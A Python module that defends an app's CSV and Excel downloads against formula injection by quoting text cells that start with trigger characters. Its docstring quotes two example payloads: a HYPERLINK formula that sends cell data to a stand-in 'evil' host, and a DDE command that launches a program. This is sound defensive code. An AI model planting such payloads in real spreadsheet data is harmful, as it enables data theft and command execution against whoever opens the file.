"""Downloads that are safe to open in Excel: neutralise formula injection (#7).

Imported exports are other systems' data: a customer name such as
``=HYPERLINK("http://evil/?"&A1,"click")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` is text to
us but a formula to Excel or LibreOffice when a CSV/XLSX download is opened. Following the
OWASP "CSV injection" guidance, every *text* cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (and their full-width forms, which some CJK input setups
turn into formulas) gets a leading single quote ``'``, so the spreadsheet shows it as text.

Real numbers stay numbers: a negative number is a number, not text, and is never touched;
only strings are. Column headers are neutralised too (SQL-lab aliases and extra columns of
an export are user text).

Every download of the app (tables, analyst queries, SQL lab, rejected rows) and the
weekly report workbook go through this module: ``csv_bytes`` / ``safe_frame`` for
DataFrames, ``neutralise_workbook`` for openpyxl workbooks.
"""

from __future__ import annotations

from typing import Any

import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# ASCII triggers from OWASP plus full-width = + - @ (U+FF1D, U+FF0B, U+FF0D, U+FF20).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
QUOTE = "'"


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    return text.startswith(FORMULA_STARTS)


def safe_value(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run; else unchanged."""
    if isinstance(value, str) and is_risky(value):
        return QUOTE + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised.

    Only text-holding columns (object/string/category dtypes) are mapped; numeric, boolean
    and date columns are returned as they are, so numbers keep their type.
    """
    out = frame.copy()
    for i in range(out.shape[1]):
        series = out.iloc[:, i]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        elif not (pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series)):
            continue
        out.isetitem(i, series.map(safe_value, na_action="ignore"))
    out.columns = [safe_value(c) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The CSV download of ``frame``: neutralised, UTF-8 with BOM (Excel reads CJK right)."""
    return safe_frame(frame).to_csv(index=False).encode("utf-8-sig")


def excel_text(value: Any) -> Any:
    """``value`` ready for an openpyxl cell: control characters Excel cannot store removed.

    Exports from other systems can carry \\x01-\\x1f (besides tab/newline); openpyxl refuses
    them with IllegalCharacterError, which would break the whole workbook download. The
    database keeps the original text; only the spreadsheet copy drops those characters.
    """
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def neutralise_workbook(workbook: Any) -> Any:
    """Neutralise every text cell of an openpyxl workbook in place; returns it.

    openpyxl stores a string that starts with ``=`` as a *formula* (data_type ``f``), so a
    data value like ``=1+1`` would be written as a live formula: after this pass it is the
    text ``'=1+1``. Numbers, dates and booleans are not touched.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and is_risky(value):
                    cell.value = QUOTE + value
                    cell.data_type = "s"
    return workbook


__all__ = [
    "FORMULA_STARTS",
    "csv_bytes",
    "excel_text",
    "is_risky",
    "neutralise_workbook",
    "safe_frame",
    "safe_value",
]
